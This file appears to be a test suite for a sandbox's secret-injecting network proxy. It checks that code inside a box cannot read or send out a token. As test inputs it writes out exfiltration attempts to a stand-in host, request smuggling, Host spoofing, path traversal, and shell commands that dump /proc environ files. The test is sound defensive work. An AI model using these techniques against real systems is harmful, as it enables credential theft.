/** T16, T32, T38, T39, T40, T51: a box may use a secret, and does all it can to have it, or to use it for something else. */

import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { LABEL_OWNER, ownerMark } from "../../lib/runtime/labels.ts";
import { filteredUser, python } from "../support/filtered.ts";
import type { User } from "../support/program.ts";
import { type Answer, tlsService } from "../support/tls_service.ts";
import { inBox, inBoxOk } from "./support.ts";

/** No other run of this has it: processes of the whole machine are searched for it. */
const VALUE = `tok_9Qe4Bz71Lw0x5Vd2rT${Deno.pid}`;

/** A service that says again what it was sent, in every way it can think of. */
const REPEATING: Answer = ({ url, headers, body, method }, response) => {
  const said = JSON.stringify({ method, url, headers, body });
  const login = String(headers.authorization ?? "");
  if (url.startsWith("/redirect")) {
    response.writeHead(302, { Location: `https://other.test/?token=${login.replace("Bearer ", "")}` });
    response.end();
  } else if (url.startsWith("/gzip")) {
    response.writeHead(200, { "Content-Encoding": "gzip" });
    response.end(gzipSync(said));
  } else if (url.startsWith("/packed")) {
    response.writeHead(200, { "Content-Encoding": "br" });
    response.end(said);
  } else if (url.startsWith("/pieces")) {
    for (const character of said) response.write(character);
    response.end();
  } else response.end(said);
};

/** What a program in the box says on a connection, and what comes back. */
interface Attack {
  /** The name that is connected to [default: api.test], and the one that is said in TLS [default: the same]. */
  readonly to?: string;
  readonly tls?: string;
  readonly alpn?: readonly string[];
  /** Written one after the other. `MARK` stands for the placeholder, `LOGIN` for a login with it in base64. */
  readonly say: readonly string[];
}

/** Says it, by a program that knows no restraint. What came back for each, as text. */
const TALK = (attacks: readonly Attack[], port: number) => `
import base64, json, os, socket, ssl, time
mark = os.environ["TOKEN"]
login = base64.b64encode(("me:" + mark).encode()).decode()
def talk(one):
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.check_hostname = "tls" not in one
    if one.get("alpn"): context.set_alpn_protocols(one["alpn"])
    name = one.get("to", "api.test")
    answer = b""
    try:
        with socket.create_connection((name, ${port}), timeout=20) as plain:
            with context.wrap_socket(plain, server_hostname=one.get("tls", name)) as tls:
                for part in one["say"]:
                    part = part.replace("LENGTH", str(len(mark))).replace("LOGIN", login)
                    for half, text in (("MARK1", mark[:20]), ("MARK2", mark[20:]), ("MARK", mark)): part = part.replace(half, text)
                    tls.sendall(part.encode())
                    time.sleep(0.02)
                while True:
                    piece = tls.recv(65536)
                    if not piece: break
                    answer += piece
    except Exception as error:
        return answer.decode("latin1") or "failed: " + type(error).__name__
    return answer.decode("latin1")
for one in json.loads(${JSON.stringify(JSON.stringify(attacks))}): print(json.dumps(talk(one)))
`;

function request(line: string, ...fields: string[]): string {
  const [head, body = ""] = fields.at(-1)?.startsWith("\n")
    ? [fields.slice(0, -1), fields.at(-1)!.slice(1)]
    : [fields];
  const host = head.some((field) => field.startsWith("Host:")) ? [] : ["Host: api.test:PORT"];
  return [`${line} HTTP/1.1`, ...host, "Connection: close", ...head, "", body].join("\r\n");
}

const BEARER = "Authorization: Bearer MARK";

/** By what it is: what is said, and what comes of it. */
const ATTACKS: Readonly<Record<string, readonly [Attack, RegExp]>> = {
  "T38 another Host": [{ say: [request("GET /x", "Host: other.test:PORT", BEARER)] }, /^HTTP\/1\.1 421 /],
  "T38 another name in TLS": [{ tls: "other.test", say: [request("GET /x", BEARER)] }, /^failed|^$/],
  "T38 a target elsewhere": [
    { say: [request("GET https://other.test:PORT/x", BEARER)] },
    /^HTTP\/1\.1 421 /,
  ],
  "T38 two lengths": [
    { say: [request("POST /x", BEARER, "Content-Length: 4", "Transfer-Encoding: chunked", "\n0\r\n\r\n")] },
    /^HTTP\/1\.1 400 .*both Content-Length and Transfer-Encoding/s,
  ],
  "T38 HTTP/2": [
    { alpn: ["h2"], say: ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"] },
    /^failed|^HTTP\/1\.1 (400|505)/,
  ],
  "T38 T39 a request behind another": [
    {
      say: [
        request("POST /repos/me/project/x", BEARER, "Content-Length: 0", "\n")
          .replace("Connection: close\r\n", ""),
        request("POST /repos/me/other/behind", BEARER, "Content-Length: 0", "\n"),
      ],
    },
    /^HTTP\/1\.1 200 .*HTTP\/1\.1 403 .*no rule allows POST api\.test\/repos\/me\/other/s,
  ],
  "T39 another repository": [
    { say: [request("POST /repos/me/other/issues", BEARER, "Content-Length: 4", "\ndata")] },
    /^HTTP\/1\.1 403 .*no rule allows POST api\.test\/repos\/me\/other/s,
  ],
  "T39 a way round": [
    { say: [request("POST /repos/me/project/../other/x", BEARER, "Content-Length: 0")] },
    /^HTTP\/1\.1 403 .*can be read in two ways/s,
  ],
  "T40 another host": [
    { to: "other.test", say: [request("GET /x", "Host: other.test:PORT", BEARER)] },
    /^HTTP\/1\.1 403 .*placeholder of TOKEN may not be sent/s,
  ],
  "T40 another host, in base64": [
    { to: "other.test", say: [request("GET /x", "Host: other.test:PORT", "Authorization: Basic LOGIN")] },
    /^HTTP\/1\.1 403 .*placeholder of TOKEN/s,
  ],
  "T40 another field": [{ say: [request("GET /x", "X-Other: MARK")] }, /^HTTP\/1\.1 403 .*field X-Other/s],
  "T40 the query": [{ say: [request("GET /x?k=MARK", BEARER)] }, /^HTTP\/1\.1 403 .*in the query/s],
  "T40 the path": [{ say: [request("GET /x/MARK", BEARER)] }, /^HTTP\/1\.1 403 .*in the path/s],
  "T40 a body in two writes": [
    { say: [request("POST /repos/me/project/body", "Content-Length: LENGTH", "\nMARK1"), "MARK2"] },
    /^HTTP\/1\.1 403 .*in the body/s,
  ],
  "T40 chunks": [
    {
      say: [
        request("POST /repos/me/project/body", "Transfer-Encoding: chunked", "\n14\r\nMARK1\r\n"),
        "1c\r\nMARK2\r\n0\r\n\r\n",
      ],
    },
    /^HTTP\/1\.1 403 .*in the body/s,
  ],
  "T40 where a host leads": [
    { to: "other.test", say: [request("GET /steal?x=MARK", "Host: other.test:PORT")] },
    /^HTTP\/1\.1 403 .*in the query/s,
  ],
};

/** What may be, by its path: the value goes there, and what is said of it is covered. */
const USES: Readonly<Record<string, Attack>> = {
  "/plain": { say: [request("GET /plain", BEARER)] },
  "/login": { say: [request("GET /login", "Authorization: Basic LOGIN")] },
  "/writes": {
    say: [
      "GET /writes HTTP/1.1\r\nHost: api.test:PORT\r\nConnection: close\r\nAuth",
      "orization: Bearer MARK1",
      "MARK2\r\n\r\n",
    ],
  },
  "/pieces": { say: [request("GET /pieces", BEARER)] },
  "/gzip": { say: [request("GET /gzip", BEARER, "Accept-Encoding: gzip")] },
  "/redirect": { say: [request("GET /redirect", BEARER)] },
  "/repos/me/project/issues": {
    say: [request("POST /repos/me/project/issues", BEARER, "Content-Length: 4", "\ndata")],
  },
};

/** What the engine knows of the boxes of a user. */
async function inspection(user: User): Promise<string> {
  const ids = await user.engine(
    "ps",
    "--all",
    "--quiet",
    `--filter=label=${LABEL_OWNER}=${await ownerMark(user.state)}`,
  );
  return await user.engine("inspect", ...ids.trim().split("\n"));
}

/** The processes of this machine with a text among their words, and those with it in their environment that are not the supervisor. */
function holders(text: string): string[] {
  const found: string[] = [];
  for (const { name } of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(name) || Number(name) === Deno.pid) continue;
    try {
      const words = Deno.readTextFileSync(`/proc/${name}/cmdline`);
      const environment = Deno.readTextFileSync(`/proc/${name}/environ`);
      // It runs as its user, who has the variable, and reads it when it is asked for.
      const isOurs = words.includes("\0internal\0supervise\0");
      if (words.includes(text) || !isOurs && environment.includes(text)) found.push(words);
    } catch { /* it has ended, or is somebody else's */ }
  }
  return found;
}

Deno.test("T38 T39 T40 T51 T16 T32 a box that may use a secret can neither have it nor use it elsewhere", async () => {
  await using service = await tlsService(["api.test", "other.test"], REPEATING);
  const { port } = service;
  const rules = ["GET api.test/*", "POST api.test/repos/me/project/*", "GET,POST other.test/*"];
  await using user = await filteredUser(
    rules.map((rule) => rule.replace(".test", `.test:${port}`)),
    ["api.test", "other.test"],
    [`network.ca = [${JSON.stringify(service.ca)}]`],
  );
  const folder = await user.folder();
  const env = { OF_USER: VALUE };
  await user.ok(["create"], { cwd: folder });
  await user.ok(["secret", "set", "TOKEN", "--from", "env:OF_USER"], { cwd: folder });
  await user.ok(["box", "config", `secret.TOKEN=api.test:${port}`], { cwd: folder });
  await user.ok(["shell", "--persistent", "--", "sleep", "600"], { cwd: folder, env });
  const talk = async (attacks: readonly Attack[]) =>
    await python(
      user,
      folder,
      TALK(
        attacks.map((one) => ({ ...one, say: one.say.map((part) => part.replaceAll("PORT", `${port}`)) })),
        port,
      ),
    ) as string[];

  const uses = Object.entries(USES);
  const answers = await talk(uses.map(([, use]) => use));
  for (const [at, [path]] of uses.entries()) {
    const answer = answers[at]!;
    const login = String(service.seen.find(({ url }) => url === path)?.headers.authorization);
    assert.ok(login === `Bearer ${VALUE}` || login === `Basic ${btoa(`me:${VALUE}`)}`, `${path}: ${login}`);
    assert.match(answer, /^HTTP\/1\.1 (200|302) /, path);
    assert.match(answer, /\*{16}/, `${path}: ${answer}`);
    assert.ok(!answer.includes(VALUE) && !answer.includes(btoa(`me:${VALUE}`)), `${path}: ${answer}`);
  }
  const [packed] = await talk([{ say: [request("GET /packed", BEARER)] }]);
  assert.match(packed!, /^HTTP\/1\.1 502 .*packed/s);

  const before = service.seen.length;
  const attacks = Object.entries(ATTACKS);
  const said = await talk(attacks.map(([, [attack]]) => attack));
  for (const [at, [name, [, expected]]] of attacks.entries()) assert.match(said[at]!, expected, name);
  const reached = service.seen.slice(before);
  // One of them is a request that may be made.
  assert.deepEqual(
    reached.filter(({ headers }) => JSON.stringify(headers).includes(VALUE)).map(({ url }) => url),
    ["/repos/me/project/x"],
  );
  assert.ok(!JSON.stringify(reached).includes("/repos/me/other"));

  const log = await user.ok(["box", "network", "log", "--lines", "500"], { cwd: folder });
  assert.match(
    log,
    new RegExp(`200 POST api\\.test:${port}/repos/me/project/issues 4 bytes out, .* with TOKEN`),
  );
  assert.match(log, new RegExp(`refused POST api\\.test:${port}/repos/me/other/issues \\(no rule allows`));
  assert.match(log, /SECRET GET other\.test/);

  // T16, T51: neither the box nor what is known of it has the value; what the box has is the placeholder.
  const inside = await inBoxOk(
    user,
    folder,
    "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; cat /run/kanibako/in/env; env > ~/taken",
  );
  assert.match(inside, /^TOKEN=kanibako-secret-[0-9a-f]{32}$/m);
  const known = {
    inside,
    log,
    inspection: await inspection(user),
    info: await user.ok(["box", "info"], { cwd: folder, env }),
    plan: await user.ok(["shell", "--plan", "--json"], { cwd: folder, env }),
    trouble: (await inBox(user, folder, "exit 3", ["--secret", `NO_SUCH:api.test:${port}`], { env })).stderr,
  };
  for (const [where, text] of Object.entries(known)) {
    assert.ok(text.length > 0 && !text.includes(VALUE), `${where}: ${text}`);
  }
  assert.deepEqual(holders(VALUE), []);
  await user.ok(["stop", "--force"], { cwd: folder });

  // T32: what is kept of the box has what the box had.
  await user.ok(["box", "vault", "snapshot", "--home", "--name", "taken"], { cwd: folder });
  const archive = `${user.home}/box.tar`;
  await user.ok(["box", "archive", folder, archive], { cwd: folder });
  const grep = async (text: string, ...where: string[]) =>
    (await user.call(["grep", "-rl", text, ...where])).stdout.trim().split("\n").filter((line) =>
      line !== ""
    );
  assert.deepEqual(await grep(VALUE, user.data, user.state, folder, archive), []);
  // The placeholder is in the home, in the snapshot and in the archive, which is not compressed.
  assert.equal((await grep("TOKEN=kanibako-secret-", user.data, folder, archive)).length, 3);
  // Another box has no use of the placeholder.
  const mark = /^TOKEN=(.*)$/m.exec(inside)![1]!;
  const other = await user.folder();
  await user.ok(["create"], { cwd: other });
  await user.ok(["box", "config", `secret.TOKEN=api.test:${port}`], { cwd: other });
  const tried = await inBox(
    user,
    other,
    `curl -sS -H "Authorization: Bearer ${mark}" https://api.test:${port}/theirs; curl -sS -H "Authorization: Bearer $TOKEN" https://api.test:${port}/own`,
    [],
    { env },
  );
  assert.match(tried.stdout, /placeholder of a secret of another box may not be sent/);
  const urls = service.seen.map(({ url, headers }) => `${url} ${headers.authorization}`);
  assert.ok(urls.includes(`/own Bearer ${VALUE}`) && !urls.some((line) => line.startsWith("/theirs")));
});
